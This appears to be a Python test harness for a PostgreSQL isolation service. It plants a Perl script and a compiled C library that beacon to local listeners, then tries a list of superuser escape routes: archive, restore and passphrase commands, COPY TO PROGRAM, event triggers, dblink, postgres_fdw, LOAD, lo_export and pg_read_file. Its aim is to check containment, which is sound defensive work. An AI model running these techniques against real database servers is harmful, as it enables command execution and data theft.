"""A cluster that tries every way out that PostgreSQL offers its owner, and sinks that hear it if one is open."""

from __future__ import annotations

import contextlib
import os
import shutil
import socket
import subprocess
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Protocol

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec

from drservice import processes

HAS_COMPILER = shutil.which("gcc") is not None

SINKS = frozenset({"tcp", "smtp", "http", "udp", "abstract", "production", "file"})
COMMANDS = frozenset({"restore", "recovery-end", "archive", "passphrase", "copy-to", "copy-from", "event-trigger"})
"""Ways that run a program of the attacker's choice."""
LIBRARIES = frozenset({"preload", "load"}) if HAS_COMPILER else frozenset[str]()
CONNECTIONS = frozenset({"walreceiver", "subscription", "dblink", "dblink-socket", "fdw"})
"""Ways by which the server itself connects somewhere."""
FILES = frozenset({"copy-file", "lo-export", "secret"})
"""Ways by which the server itself reads and writes files."""

_PROGRAM = r"""
use strict; use Socket;
my ($channel, $answer) = @ARGV;
open(my $ran, '>', "@DATA@/ran-$channel"); close $ran;
sub call {
  my ($family, $kind, $at, $text) = @_;
  socket(my $socket, $family, $kind, 0) or return;
  connect($socket, $at) or return;
  send($socket, $text, 0);
}
sub port { return pack_sockaddr_in($_[0], INADDR_LOOPBACK) }
call(AF_INET, SOCK_STREAM, port(@TCP@), "$channel\n");
call(AF_INET, SOCK_STREAM, port(@SMTP@), "EHLO $channel\r\n");
call(AF_INET, SOCK_STREAM, port(@HTTP@), "GET /$channel HTTP/1.0\r\n\r\n");
call(AF_INET, SOCK_DGRAM, port(@UDP@), "$channel\n");
call(AF_UNIX, SOCK_STREAM, pack('S a*', AF_UNIX, "\0@ABSTRACT@"), "$channel\n");
call(AF_UNIX, SOCK_STREAM, pack_sockaddr_un('@PRODUCTION@/.s.PGSQL.5432'), "$channel\n");
open(my $drop, '>', "@DROP@/$channel"); close $drop;
print "$answer\n" if defined $answer;
exit($channel eq 'restore' ? 1 : 0);
"""

_LIBRARY = r"""
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
__attribute__((constructor)) static void begin(void) {
  struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(TCP), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  int made = open(DATA "/ran-" CHANNEL, O_WRONLY | O_CREAT, 0600);
  int drop = open(DROP "/" CHANNEL, O_WRONLY | O_CREAT, 0600);
  int sock = socket(AF_INET, SOCK_STREAM, 0);
  if (!connect(sock, (struct sockaddr *)&at, sizeof at)) { if (write(sock, CHANNEL "\n", sizeof CHANNEL)) {} }
  close(made); close(drop); close(sock);
}
"""
"""Its constructor runs before PostgreSQL finds out that it is no library of its own."""


_AS_INITDB = {"max_connections": "100", "max_worker_processes": "8", "max_wal_senders": "10"}
"""Recovery insists on at least what the server had when its WAL was written."""


@dataclass(kw_only=True)
class Sinks:
    """Real listeners on the host, a socket like production's, a folder anybody may write to, a file to be read."""

    ports: dict[str, int] = field(default_factory=dict)
    abstract: str
    folder: Path
    heard: dict[str, list[bytes]] = field(default_factory=lambda: {name: [] for name in SINKS})

    @property
    def production(self) -> Path:
        return self.folder / "production"

    @property
    def drop(self) -> Path:
        return self.folder / "drop"

    def reached(self) -> frozenset[str]:
        """Return the sinks that something reached."""
        files = {"file"} if any(self.drop.iterdir()) else set()
        return frozenset(files | {name for name, texts in self.heard.items() if texts})

    def told_of(self, channel: str) -> bool:
        """Tell whether anything came over this way."""
        texts = [text for name in SINKS for text in self.heard[name]]
        return (self.drop / channel).exists() or any(channel.encode() in text for text in texts)


@contextlib.contextmanager
def listening_sinks() -> Iterator[Sinks]:
    folder = Path(tempfile.mkdtemp(prefix="drs-sink-"))
    folder.chmod(0o755)
    sinks = Sinks(abstract=f"drservice-sink-{os.getpid()}-{folder.name}", folder=folder)
    (folder / "secret").write_text("the secret of the host", encoding="ascii")
    for place in (sinks.drop, sinks.production):
        place.mkdir()
        place.chmod(0o777)
    with contextlib.ExitStack() as stack:
        threads: list[threading.Thread] = []
        ended = threading.Event()
        for name in ("tcp", "smtp", "http", "udp", "abstract", "production"):
            listener = _listener(name, sinks)
            stack.callback(listener.close)
            threads.append(threading.Thread(target=_listen, args=(listener, sinks.heard[name], ended)))
        for thread in threads:
            thread.start()
        try:
            yield sinks
        finally:
            ended.set()
            for thread in threads:
                thread.join()
            shutil.rmtree(folder)


def _listener(name: str, sinks: Sinks) -> socket.socket:
    family = socket.AF_UNIX if name in {"abstract", "production"} else socket.AF_INET
    listener = socket.socket(family, socket.SOCK_DGRAM if name == "udp" else socket.SOCK_STREAM)
    if name == "abstract":
        listener.bind(f"\0{sinks.abstract}")
    elif name == "production":
        path = sinks.production / ".s.PGSQL.5432"
        listener.bind(str(path))
        path.chmod(0o777)
    else:
        listener.bind(("127.0.0.1", 0))
        sinks.ports[name] = listener.getsockname()[1]
    if name != "udp":
        listener.listen(64)
    listener.settimeout(0.05)
    return listener


def _listen(listener: socket.socket, heard: list[bytes], ended: threading.Event) -> None:
    while not ended.is_set():
        try:
            if listener.type == socket.SOCK_DGRAM:
                heard.append(listener.recv(2048))
                continue
            connection = listener.accept()[0]
        except TimeoutError:
            continue
        with connection:
            connection.settimeout(1.0)
            try:
                heard.append(connection.recv(2048) or b"connected")
            except OSError:
                heard.append(b"connected")


class Server(Protocol):
    """Where the hostile cluster runs: on the host, or inside."""

    @property
    def data(self) -> Path:
        """Its directory as the host sees it."""
        ...

    @property
    def seen(self) -> str:
        """The same directory as the server sees it."""
        ...

    def start(self, options: dict[str, str], *, comes_up: bool) -> None:
        """Start it with these settings; return when it answers or, if it will not come up, has ended."""
        ...

    def sql(self, text: str) -> str:
        """Run one statement and return what it printed, errors too."""
        ...

    def stop(self) -> None:
        """Stop it."""
        ...


def await_all(channels: frozenset[str], done: Callable[[str], bool], *, seconds: float = 15.0) -> None:
    """Wait until all these ways are done, and name those that are not."""
    deadline = time.monotonic() + seconds
    while left := {channel for channel in channels if not done(channel)}:
        assert time.monotonic() < deadline, f"not seen: {sorted(left)}"
        time.sleep(0.05)


def attack(server: Server, sinks: Sinks, *, settle: Callable[[frozenset[str]], None]) -> str:
    """Let the cluster try every way out; returns what the statements printed.

    Args:
        server: a stopped cluster just made by initdb.
        sinks: what to reach.
        settle: waits until these ways were tried.
    """
    _plant(server, sinks)
    evil = f"/usr/bin/perl {server.seen}/evil.pl"
    tcp = f"host=127.0.0.1 port={sinks.ports['tcp']} sslmode=disable gssencmode=disable user=x dbname=x"
    if HAS_COMPILER:
        server.start({"shared_preload_libraries": f"{server.seen}/preload.so"}, comes_up=False)
        settle(frozenset({"preload"}))
    (server.data / "standby.signal").touch()
    standby = _AS_INITDB | {
        "restore_command": f"{evil} restore",
        "primary_conninfo": f"{tcp} application_name=walreceiver",
    }
    server.start(standby, comes_up=True)
    settle(frozenset({"restore", "walreceiver"}))
    server.stop()
    (server.data / "standby.signal").rename(server.data / "recovery.signal")
    server.start(
        {
            **_AS_INITDB,
            "restore_command": f"{evil} restore",
            "recovery_end_command": f"{evil} recovery-end",
            "archive_mode": "on",
            "archive_command": f"{evil} archive",
            "ssl": "on",
            "ssl_cert_file": f"{server.seen}/evil.crt",
            "ssl_key_file": f"{server.seen}/evil.key",
            "ssl_passphrase_command": f"{evil} passphrase opensesame",
        },
        comes_up=True,
    )
    settle(frozenset({"recovery-end", "archive", "passphrase"}))
    printed = [server.sql(statement) for statement in _statements(server, sinks, evil, tcp)]
    settle((COMMANDS | LIBRARIES | CONNECTIONS | FILES) - {"secret"})
    server.stop()
    return "\n".join(printed)


def _statements(server: Server, sinks: Sinks, evil: str, tcp: str) -> list[str]:
    unix = f"host={sinks.production} port=5432 sslmode=disable gssencmode=disable user=x dbname=x"
    return [
        f"copy (select 1) to program '{evil} copy-to'",
        f"create table t (x text); copy t from program '{evil} copy-from x'",
        (
            f"create function f() returns event_trigger language plpgsql as $$ begin"
            f" execute 'copy (select 1) to program ''{evil} event-trigger'''; end $$;"
            f" create event trigger e on ddl_command_end execute function f(); create table fires ();"
            f" drop event trigger e"
        ),
        "create extension dblink",
        f"select dblink_connect('a', '{tcp} application_name=dblink')",
        f"select dblink_connect('b', '{unix} application_name=dblink-socket')",
        (
            f"create extension postgres_fdw; create server s foreign data wrapper postgres_fdw options"
            f" (host '127.0.0.1', port '{sinks.ports['tcp']}', dbname 'x', sslmode 'disable', gssencmode 'disable',"
            f" application_name 'fdw'); create user mapping for postgres server s options (user 'x', password 'x');"
            f" create foreign table far (x int) server s; select * from far"
        ),
        (
            f"create subscription s connection '{tcp} application_name=subscription'"
            f" publication p with (connect = false, slot_name = 'subscription'); alter subscription s enable"
        ),
        f"load '{server.seen}/load.so'",
        f"copy (select 'x') to '{sinks.drop}/copy-file'",
        f"select lo_from_bytea(4711, 'x'); select lo_export(4711, '{sinks.drop}/lo-export')",
        f"select pg_read_file('{sinks.folder}/secret')",
        f"alter system set archive_command = '{evil} archive'",
    ]


def _plant(server: Server, sinks: Sinks) -> None:
    account = processes.server_account(server.data)
    values = {
        "DATA": server.seen, "ABSTRACT": sinks.abstract, "PRODUCTION": str(sinks.production), "DROP": str(sinks.drop),
        **{name.upper(): str(port) for name, port in sinks.ports.items()},
    }  # fmt: skip
    program = _PROGRAM
    for name, value in values.items():
        program = program.replace(f"@{name}@", value)
    (server.data / "evil.pl").write_text(program, encoding="ascii")
    key, certificate = _encrypted_key()
    (server.data / "evil.key").write_bytes(key)
    (server.data / "evil.crt").write_bytes(certificate)
    for channel in LIBRARIES:
        constants = {
            "TCP": values["TCP"],
            "DATA": f'"{server.seen}"',
            "DROP": f'"{sinks.drop}"',
            "CHANNEL": f'"{channel}"',
        }
        subprocess.run(
            ["gcc", "-shared", "-fPIC", *(f"-D{name}={value}" for name, value in constants.items()), "-x", "c", "-",
             "-o", str(server.data / f"{channel}.so")],
            input=_LIBRARY.encode(), check=True,
        )  # fmt: skip
    for path in [*server.data.glob("evil.*"), *server.data.glob("*.so")]:
        path.chmod(0o700 if path.suffix == ".so" else 0o600)
        if account is not None:
            os.chown(path, account.uid, account.gid)


def _encrypted_key() -> tuple[bytes, bytes]:
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "hostile")])
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now)
        .not_valid_after(now + timedelta(days=1))
        .sign(key, hashes.SHA256())
    )
    private = key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.TraditionalOpenSSL,
        serialization.BestAvailableEncryption(b"opensesame"),
    )
    return private, certificate.public_bytes(serialization.Encoding.PEM)
